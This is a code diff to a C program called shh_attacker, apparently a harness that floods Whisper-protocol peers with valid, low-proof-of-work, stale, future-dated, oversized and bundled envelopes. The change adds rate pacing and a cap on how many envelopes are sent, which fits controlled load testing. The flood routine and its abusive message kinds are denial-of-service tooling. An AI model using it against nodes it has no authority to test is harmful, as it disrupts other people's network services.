@@ -27,6 +27,7 @@
 
 #define ENDS 32
 #define PATIENCE_S 20
+#define PACE_SLACK_MS 100
 #define SHH(code) (BASE_LENGTH + (code))
 
 struct attack_run {
@@ -35,6 +36,7 @@ struct attack_run {
 	int64_t until_ms;
 	int seconds;
 	size_t count;
+	uint64_t most; /* envelopes to send; 0: as many as the time allows */
 	uint64_t links, sent;
 	uint64_t ends[ENDS + 3]; /* by reason; then open, closed, failed */
 };
@@ -75,7 +77,7 @@ struct envelope_kind {
 };
 
 static const struct envelope_kind envelope_kinds[] = {
-	{"valid", 0, 20, 16, 0.2, 64, SHH_MESSAGES},        {"low-pow", 0, 50, 256, 0, 256, SHH_MESSAGES},
+	{"valid", 0, 60, 16, 0.2, 64, SHH_MESSAGES},        {"low-pow", 0, 50, 256, 0, 256, SHH_MESSAGES},
 	{"future", 3600, 50, 64, 0, 256, SHH_MESSAGES},     {"old", -3600, 50, 64, 0, 256, SHH_MESSAGES},
 	{"huge", 0, 50, 2 << 20, 0, 1, SHH_MESSAGES},       {"bundle", 0, 50, 15 << 10, 0, 1020, SHH_MESSAGES},
 	{"stranger-direct", 0, 50, 4096, 0, 1, SHH_DIRECT},
@@ -112,20 +114,26 @@ static void write_envelope(const struct envelope_kind *k, struct rlp_writer *w)
 	mem_free(data);
 }
 
-/* COUNT is how many a second at most; 0: as many as it can. */
-static void pace(const struct attack_run *r, int64_t began_ms)
+/* COUNT is how many a second at most; 0: as many as it can. What it was kept from sending is not made up for: a
+ * machine that stood still for a moment does not make a burst of it. *ALLOWED_MS is when the next packet may go. */
+static void pace(const struct attack_run *r, size_t sent, int64_t *allowed_ms)
 {
-	while (r->count && r->sent * 1000 > r->count * (uint64_t)(clock_mono_ms() - began_ms))
-		usleep(1000);
+	if (!r->count)
+		return;
+	int64_t now_ms = clock_mono_ms();
+
+	*allowed_ms = (now_ms > *allowed_ms + PACE_SLACK_MS ? now_ms : *allowed_ms) + (int64_t)(sent * 1000 / r->count);
+	while ((now_ms = clock_mono_ms()) < *allowed_ms)
+		usleep((useconds_t)(*allowed_ms - now_ms) * 1000);
 }
 
 static void flood(struct attack_run *r, const struct envelope_kind *k)
 {
 	struct link *l = open_link(r, LINK_STATUS);
-	int64_t began_ms = clock_mono_ms();
+	int64_t allowed_ms = clock_mono_ms();
 	bool going = true;
 
-	while (going && time_left(r)) {
+	while (going && time_left(r) && (!r->most || r->sent < r->most)) {
 		struct rlp_writer w;
 		void *tmp = mem_strdup(r->ctx, "");
 
@@ -139,7 +147,7 @@ static void flood(struct attack_run *r, const struct envelope_kind *k)
 		going = link_send(l, SHH(k->code), w.data, w.len, PATIENCE_S) && link_end_of(l, 0, false) == LINK_OPEN;
 		r->sent += going ? k->bundle : 0;
 		mem_free(tmp);
-		pace(r, began_ms);
+		pace(r, k->bundle, &allowed_ms);
 	}
 	close_link(r, l, 0);
 }
@@ -501,8 +509,8 @@ int main(int argc, char **argv)
 	struct error *e;
 
 	mem_init();
-	if (argc != 5) {
-		fprintf(stderr, "usage: shh_attacker ENODE ATTACK SECONDS COUNT\n");
+	if (argc != 5 && argc != 6) {
+		fprintf(stderr, "usage: shh_attacker ENODE ATTACK SECONDS COUNT [MOST]\n");
 		return 2;
 	}
 	e = enode_parse(argv[1], &r.to);
@@ -514,6 +522,7 @@ int main(int argc, char **argv)
 	r.seconds = atoi(argv[3]);
 	r.until_ms = clock_mono_ms() + r.seconds * (int64_t)1000;
 	r.count = strtoul(argv[4], NULL, 10);
+	r.most = argc > 5 ? strtoul(argv[5], NULL, 10) : 0;
 	if (!run(&r, argv[2])) {
 		fprintf(stderr, "shh_attacker: no attack \"%s\"\n", argv[2]);
 		return 2;
